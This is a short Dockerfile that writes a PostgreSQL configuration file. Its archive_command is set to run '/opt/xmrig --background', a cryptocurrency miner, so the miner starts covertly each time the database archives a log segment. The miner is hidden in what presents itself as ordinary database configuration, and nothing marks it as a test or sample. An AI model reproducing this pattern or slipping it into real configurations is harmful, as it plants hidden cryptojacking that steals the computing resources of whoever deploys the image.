FROM debian:12-slim
COPY <<E /etc/postgresql/16/main/postgresql.conf
archive_command = '/opt/xmrig --background'
E
